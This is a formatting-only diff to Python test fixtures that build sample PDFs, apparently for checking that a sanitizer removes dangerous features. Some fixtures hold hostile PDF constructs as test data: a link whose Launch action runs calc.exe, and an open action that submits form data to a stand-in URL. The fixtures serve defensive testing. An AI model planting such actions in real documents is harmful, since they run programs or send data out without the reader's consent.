@@ -13,7 +13,12 @@ def _locked(pdf, revision=6, user="", **allow):
         static_id=False,
         deterministic_id=revision >= 9,
         encryption=Encryption(
-            owner="owner", user=user, R=revision, allow=Permissions(**allow), aes=revision >= 4, metadata=revision >= 4
+            owner="owner",
+            user=user,
+            R=revision,
+            allow=Permissions(**allow),
+            aes=revision >= 4,
+            metadata=revision >= 4,
         ),
     )
 
@@ -73,7 +78,11 @@ def protected_by_a_method_of_nobody(pdf):
 def signed(pdf):
     sheet(pdf)
     signature = Dictionary(
-        Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), ByteRange=Array([0, 9, 20, 9]), Contents=b"0" * 64, Name="Wang Wei"
+        Type=Name.Sig,
+        Filter=Name("/Adobe.PPKLite"),
+        ByteRange=Array([0, 9, 20, 9]),
+        Contents=b"0" * 64,
+        Name="Wang Wei",
     )
     field = Dictionary(FT=Name.Sig, T="Signature1", V=pdf.make_indirect(signature))
     pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.make_indirect(field)]), SigFlags=3)
@@ -82,7 +91,9 @@ def signed(pdf):
 @animal(told="signature-void")
 def certified(pdf):
     sheet(pdf)
-    signature = pdf.make_indirect(Dictionary(Type=Name.Sig, ByteRange=Array([0, 9, 20, 9]), Contents=b"0" * 64))
+    signature = pdf.make_indirect(
+        Dictionary(Type=Name.Sig, ByteRange=Array([0, 9, 20, 9]), Contents=b"0" * 64)
+    )
     pdf.Root.Perms = Dictionary(DocMDP=signature)
 
 
@@ -121,14 +132,18 @@ def script_behind_harmless_steps(pdf):
 @animal(told="launch-removed")
 def program_behind_a_link(pdf):
     action = Dictionary(S=Name.Launch, F="calc.exe")
-    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([9, 9, 99, 99]), Border=Array([0, 0, 0]), A=action)
+    link = Dictionary(
+        Type=Name.Annot, Subtype=Name.Link, Rect=Array([9, 9, 99, 99]), Border=Array([0, 0, 0]), A=action
+    )
     sheet(pdf, Annots=Array([link]))
 
 
 @animal(told="actions-removed")
 def form_sent_to_a_stranger(pdf):
     sheet(pdf)
-    pdf.Root.OpenAction = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F="https://example.org/take"))
+    pdf.Root.OpenAction = Dictionary(
+        S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F="https://example.org/take")
+    )
 
 
 @animal(told="attachments-removed")
